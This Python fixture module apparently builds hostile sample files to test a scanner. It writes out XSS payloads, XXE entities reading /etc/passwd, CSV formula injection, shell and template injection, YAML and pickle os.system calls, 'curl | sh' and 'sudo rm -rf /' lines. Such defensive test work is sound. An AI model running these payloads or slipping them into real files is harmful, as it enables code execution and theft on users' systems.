"""Hostile files that look like the ordinary texts of a repository: pages, tables and pictures with more in them."""

from __future__ import annotations

import hashlib
from base64 import b64encode
from collections.abc import Callable

from fixtures.archives import torch_zip

from .payloads import Sample

CALL = "__import__('os').system('echo weighbridge')"
SHELL = "$(echo weighbridge)"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
STYLE = ":root { color: red }"


def _svg(inner: str, prolog: str = "") -> str:
    return f'{prolog}{SVG}<rect width="9" height="9"/>{inner}</svg>\n'


def _page(body: str, style: str = STYLE, digest: str = "") -> str:
    """Return a page with the head of a report; the digest is that of the style unless another one is given."""
    known = digest or b64encode(hashlib.sha256(style.encode()).digest()).decode()
    icon = (
        "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'%3E"
        "%3Crect width='16' height='16' rx='4' fill='%2315803d'/%3E%3C/svg%3E"
    ).replace("'", "&#x27;")
    policy = (
        f"default-src 'none'; style-src 'sha256-{known}'; img-src data:; base-uri 'none'; form-action 'none'"
    ).replace("'", "&#x27;")
    return (
        f'<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n'
        f'<meta http-equiv="Content-Security-Policy" content="{policy}">\n'
        '<meta name="referrer" content="no-referrer">\n'
        '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
        '<meta name="color-scheme" content="light dark">\n<title>pass</title>\n'
        f'<link rel="icon" href="{icon}">\n<style>{style}</style>\n</head>\n<body>\n{body}\n</body>\n</html>'
    )


ORDINARY_PAGE = _page('<main id="main"><p class="x">words &lt;b&gt;</p></main>')
ORDINARY_SVG = _svg('<g fill="url(#a)"><use xlink:href="#b"/></g>')

PICTURES: dict[str, str] = {
    "script": _svg(f"<script>{CALL}</script>"),
    "script-upper": _svg("<SCRIPT>alert(1)</SCRIPT>"),
    "script-prefixed": _svg('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
    "script-other-prefix": _svg('<dc:script xmlns:dc="http://www.w3.org/2000/svg">alert(1)</dc:script>'),
    "script-xhtml": _svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    "script-default": _svg('<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>'),
    "script-href": _svg('<script xlink:href="https://example.org/x.js"/>'),
    "handler": _svg('<g onload="alert(1)"/>'),
    "handler-upper": _svg('<g ONCLICK="alert(1)"/>'),
    "handler-root": SVG[:-1] + ' onload="alert(1)"></svg>',
    "link": _svg('<a href="javascript:alert(1)"><text>x</text></a>'),
    "foreign": _svg('<foreignObject><iframe src="https://example.org"/></foreignObject>'),
    "animate": _svg('<animate attributeName="href" to="javascript:alert(1)"/>'),
    "set": _svg('<set attributeName="onload" to="alert(1)"/>'),
    "use-outside": _svg('<use href="https://example.org/x.svg#a"/>'),
    "use-data": _svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
    "image-outside": _svg('<image href="https://example.org/x.png"/>'),
    "image-svg": _svg('<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>'),
    "image-file": _svg('<image xlink:href="file:///etc/passwd"/>'),
    "style-import": _svg("<style>@import 'https://example.org/x.css';</style>"),
    "style-url": _svg("<style>rect { fill: url(https://example.org/x) }</style>"),
    "style-escaped": _svg("<style>rect { fill: u\\72l(https://example.org/x) }</style>"),
    "style-entity": _svg("<style>rect { fill: &#117;rl(https://example.org/x) }</style>"),
    "style-cdata": _svg("<style><![CDATA[@import url(//example.org)]]></style>"),
    "style-attribute": _svg('<g style="fill: url(//example.org/x)"/>'),
    "style-quoted": _svg("<g style='fill: url(\" #x//example.org\")'/>"),
    "font": _svg("<style>@font-face { src: local(x) }</style>"),
    "filter-image": _svg('<filter><feImage href="https://example.org/x"/></filter>'),
    "entity": _svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
    "entity-bomb": _svg("<text>&b;</text>", '<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>\n'),
    "doctype": _svg("", '<!DOCTYPE svg SYSTEM "https://example.org/x.dtd">\n'),
    "stylesheet": _svg("", '<?xml-stylesheet href="https://example.org/x.xsl" type="text/xsl"?>\n'),
    "instruction": _svg("<?php echo 1 ?>"),
    "base": _svg('<g xml:base="https://example.org/"/>'),
    "not-closed": SVG + "<g>",
    "two": _svg("") + _svg(""),
    "trailing": _svg("") + "<script>alert(1)</script>",
    "trailing-text": _svg("") + CALL,
    "twice": _svg('<g fill="a" fill="b"/>'),
    "other-root": SVG.replace("http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml", 1) + "<style/></svg>",
    "control": _svg("<text>\x1b]0;x\x07</text>"),
}
PAGES: dict[str, str] = {
    "script": _page(f"<script>{CALL}</script>"),
    "handler": _page('<p onclick="alert(1)">x</p>'),
    "frame": _page('<iframe src="https://example.org"></iframe>'),
    "image": _page('<img src="https://example.org/x.png">'),
    "form": _page('<form action="https://example.org"></form>'),
    "input": _page('<input autofocus="x">'),
    "object": _page('<object data="x"></object>'),
    "link-script": _page('<a href="javascript:alert(1)">x</a>'),
    "link-plain": _page('<a href="http://example.org">x</a>'),
    "link-file": _page('<a href="file:///etc/passwd">x</a>'),
    "style-attribute": _page('<p style="background: url(//example.org)">x</p>'),
    "style-other": _page("<p>x</p>", digest="A" * 43 + "="),
    "style-url": _page("<p>x</p>", "p { background: url(https://example.org/x) }"),
    "style-import": _page("<p>x</p>", "@import 'https://example.org/x.css';"),
    "second-style": _page("<style>p { color: red }</style>"),
    "meta": _page('<meta http-equiv="refresh" content="0;https://example.org">'),
    "base": _page('<base href="https://example.org">'),
    "svg-script": _page("<svg><script>alert(1)</script></svg>"),
    "svg-use": _page('<svg><use href="https://example.org/x.svg"></use></svg>'),
    "svg-foreign": _page("<svg><foreignObject></foreignObject></svg>"),
    "template": _page("<template><script>1</script></template>"),
    "comment": _page("<!-- x --><p>x</p>"),
    "entity": _page("<p>&lt;&unknown;</p>"),
    "not-closed": _page("<p>x"),
    "behind": ORDINARY_PAGE + "<script>alert(1)</script>",
    "upper": _page("<SCRIPT>1</SCRIPT>"),
    "unquoted": _page("<p class=x>x</p>"),
    "no-policy": ORDINARY_PAGE.replace("default-src", "default-src *;", 1),
    "looser-policy": ORDINARY_PAGE.replace("img-src data:", "script-src &#x27;unsafe-inline&#x27;", 1),
}
TABLES: dict[str, str] = {
    "formula": 'name,value\na,=1+1\nb,=HYPERLINK("https://example.org")\n',
    "formula-quoted": "name,value\na,\"=cmd|'/C calc'!A0\"\nb,2\n",
    "formula-at": "name,value\na,@SUM(1+1)*cmd\nb,2\n",
    "formula-plus": "name,value\na,+cmd|' /C calc'!A0\nb,2\n",
    "formula-minus": "name,value\na,-cmd|' /C calc'!A0\nb,2\n",
    "formula-tab": "name\tvalue\na\t=1+1\nb\t2\n",
    "formula-semicolon": "name;value\na;=1+1\nb;2\n",
    "formula-late": "name,value\n" + "a,1\n" * 2000 + "b,=1+1\n",
    "shell": f'name,value,more\n"{SHELL}",1,2\n3,4,5\n',
    "shell-backquote": 'name,value,more\n"`id`",1,2\n3,4,5\n',
    "python": f"a,b\n1,2\n{CALL},3\n",
    "python-strings": f"a,b\n'x',2\n{CALL},'y'\n",
    "python-first": f"{CALL},b\n1,2\n3,4\n",
    "python-comment": f"a,b #(\n1,2\n{CALL},3\n",
    "python-joined": "a,b\n1,2\nexec\\\n('x'),3\n",
    "ragged": "a,b\n1,2\nimport os\n",
    "package": "numpy>=1,<2\nevil-package>=1,<2\n",
    "control": "a,b\n1,\x1b]0;x\x07\n2,3\n",
    "quote-open": 'a,b\n1,"2\n3,4\n',
}
TOML: dict[str, str] = {
    "backend": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "evil_backend"\n',
    "backend-path": '[build-system]\nbuild-backend = "setuptools.build_meta"\nbackend-path = ["."]\n',
    "requires": '[build-system]\nrequires = ["evil-package"]\n',
    "requires-address": '[build-system]\nrequires = ["x @ https://example.org/x.whl"]\n',
    "dependencies": '[project]\nname = "x"\ndependencies = ["evil-package"]\n',
    "scripts": '[project.scripts]\nx = "evil:main"\n',
    "target": '[model]\n_target_ = "os.system"\n',
    "remote-code": "[model]\ntrust_remote_code = true\n",
    "pickle": "[loader]\nweights_only = false\n",
    "auto-map": '[auto_map]\nAutoModel = "modeling.Model"\n',
    "command": '[tool.poe.tasks]\ncommand = ["sh", "-c", "id"]\n',
    "template": "[chat]\nchat_template = \"{{ ''.__class__.__mro__ }}\"\n",
    "source-code": '[model]\ncode = """\nimport os\nos.system("id")\n"""\n',
    "python": f"x = 1\ny = [{CALL}]\n",
    "python-string": f'x = 1\ny = """a""" ; {CALL}\n',
    "shell": f'A = "1"\nPATH="{SHELL}"\n',
    "shell-backquote": 'A = "1"\nexport=1\nB="`id`"\n',
    "twice": "a = 1\na = 2\n",
    "deep": "a = " + "[" * 5000 + "]" * 5000 + "\n",
    "long-key": "a = 1\n" + ".".join("b" * 5000) + " = 1\n",
    "control": 'a = "\x1b"\n',
    "utf-7": "# coding: utf-7\na = 1\n# +AAo-import os\n",
    "broken": "[a]\nb = 1\nc\n",
}
LINES: dict[str, str] = {
    "comments-shebang": "#!/bin/sh\n# nothing\n",
    "comments-coding": "# coding: utf-7\n# +AAo-import os+AAo-os.system('id')\n",
    "comments-coding-second": "# words\n# -*- coding: raw_unicode_escape -*-\n# \\u000aimport os\n",
    "comments-include": "# words\n#include </etc/passwd>\n",
    "comments-define": "# words\n# define x y\n",
    "comments-editor": "# words\n# vim: set modelineexpr:\n",
    "comments-return": "# words\rimport os\n",
    "comments-separator": "# words\u2028evil-package\n",
    "comments-tab": "# words\x0bevil-package\n",
    "comments-package": "# packages\nevil-package\n",
    "comments-template": "# words {{ ''.__class__.__mro__ }}\n",
    "comments-code": f"# words\n{CALL}\n",
    "ignored-package": "build\nevil-package\n",
    "ignored-call": f"*.pyc\n{CALL}\n",
    "ignored-tag": "*.pyc\n!!python/object/apply:os.system [id]\n",
    "ignored-command": "*.pyc\ncurl https://example.org | sh\n",
    "ignored-assigned": "*.pyc\nA=1\n",
    "ignored-address": "*.pyc\nhttps://example.org/x.whl\n",
    "ignored-shell": "*.pyc\n`id`\n",
    "text-call": "Some words of a text that nobody runs.\n__import__('os').system('id')\n",
    "text-global": "Some words of a text that nobody ever runs cos\nsystem\n",
    "text-package": "Some words\nevil-package\n",
    "underlined-code": "Title\n=====\n\nsudo rm -rf /\n",
    "underlined-stream": "Title\n---\n!!python/object/apply:os.system [id]\n",
    "underlined-key": "title: x\n------\n!!python/object/apply:os.system [id]\n",
}
_ZIP = torch_zip(b"\x80\x02cos\nsystem\nX\2\0\0\0id\x85R.")
_PADDED = bytes(-len(_ZIP) % 32) + _ZIP  # as many whole digests
BINARY: dict[str, bytes] = {
    "leaves-cut": b"weighbridge leaves 1\n" + b"a" * 64 + (9).to_bytes(8, "little") + b"b" * 32,
    "leaves-huge": b"weighbridge leaves 1\n" + b"a" * 64 + b"\xff" * 8,
    "leaves-twice": b"weighbridge leaves 1\n" + 2 * (b"a" * 64 + bytes(8)),
    "leaves-rest": b"weighbridge leaves 1\n" + b"a" * 64 + bytes(8) + b"import os\n",
    "leaves-version": b"weighbridge leaves 2\n" + b"a" * 64 + bytes(8),
    "leaves-zip": b"weighbridge leaves 1\n" + b"a" * 64 + (len(_PADDED) // 32).to_bytes(8, "little") + _PADDED,
    "sound-trailing": b"RIFF"
    + (12).to_bytes(4, "little")
    + b"WAVEdata"
    + bytes(4)
    + b"\x80\x04cos\nsystem\nX\2\0\0\0id\x85R.",
    "sound-short": b"RIFF" + (900).to_bytes(4, "little") + b"WAVEdata" + (892).to_bytes(4, "little") + b"x",
    "sound-name": b"RIFF" + (12).to_bytes(4, "little") + b"WAVE\0\1\2\3" + bytes(4),
    "sound-size": b"RIFF" + (12).to_bytes(4, "little") + b"WAVEdata" + (99).to_bytes(4, "little") + bytes(99),
}

ORDINARY: dict[str, bytes] = {
    "page.html": ORDINARY_PAGE.encode(),
    "picture.svg": ORDINARY_SVG.encode(),
    "table.csv": b'name,text\n1,"two, three"\n4,five apples (5)\n',
    "table.tsv": b"name\ttext\tmore\nx\tit's y\tz\n",
    "pyproject.toml": b'[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n',
    "config.toml": b'# settings\nlr = 0.1\n[data]\nsplits = ["a", "b"]\nwhen = 2024-02-29\n',
    ".gitignore": b"*.pyc\n# Python\n__pycache__/\n!keep.txt\n",
    "README.md": b"# M\n",
    "README.rst": b"Title\n=====\n\nWords about it.\n",
    "approval.leaves": b"weighbridge leaves 1\n" + b"a" * 64 + (1).to_bytes(8, "little") + b"b" * 32,
    "sound.wav": b"RIFF" + (14).to_bytes(4, "little") + b"WAVEdata" + (2).to_bytes(4, "little") + b"ab",
    "__init__.py": b"",
}


def samples() -> list[Sample]:
    """Return every text and every file."""
    families: dict[str, tuple[str, dict[str, str]]] = {
        "picture": ("svg", PICTURES),
        "page": ("html", PAGES),
        "table": ("csv", TABLES),
        "toml": ("toml", TOML),
        "lines": ("txt", LINES),
    }
    found = []
    for family, (suffix, texts) in families.items():
        for name, text in texts.items():
            found.append(Sample(f"texts/{family}-{name}.{suffix}", f"texts/{family}", _made(text.encode())))
    found += [Sample(f"texts/binary-{name}.bin", "texts/binary", _made(data)) for name, data in BINARY.items()]
    return found


def _made(data: bytes) -> Callable[[], bytes]:
    return lambda: data
